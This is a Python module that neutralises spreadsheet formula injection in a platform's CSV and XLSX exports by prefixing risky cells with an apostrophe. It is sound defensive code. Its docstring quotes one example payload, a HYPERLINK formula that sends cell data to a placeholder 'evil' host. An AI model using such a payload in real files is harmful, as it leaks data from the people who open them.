"""Every CSV and XLSX the platform writes goes through here, so no cell can attack its reader.

A spreadsheet treats a cell starting with = + - @ (or a tab or carriage return, which some strip before
reading the rest) as a formula: an applicant named `=HYPERLINK("http://evil/?"&A1,"click")` would run in
HR's Excel. Such text gets a leading apostrophe, which spreadsheets show as text and which openpyxl
stores as a plain string (never a formula). Numbers are left alone: a negative amount is a number, not
text. `tests/web/test_spreadsheet_exports.py` checks that nothing else in the project writes CSV or XLSX
and sends a formula through every export."""
from __future__ import annotations

import csv
import io
from typing import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value):
    """The value as a cell may hold it: text a spreadsheet would read as a formula becomes plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    return [neutralise(value) for value in values]


class CsvWriter:
    """csv.writer whose every cell is neutralised."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, values: Iterable):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def csv_text(header: list[str] | None, rows: Iterable[Iterable], **options) -> str:
    buffer = io.StringIO()
    writer = CsvWriter(buffer, **options)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_dicts(rows: Iterable[dict], fields: list[str], **options) -> str:
    """Rows given as dicts, the fields in order (missing ones empty, extra ones left out)."""
    return csv_text(fields, ([row.get(field, "") for field in fields] for row in rows), **options)


def workbook(*, write_only: bool = False):
    """An empty openpyxl workbook; rows go in through `append`."""
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def append(sheet, values: Iterable) -> None:
    sheet.append(safe_row(values))


def workbook_bytes(book) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
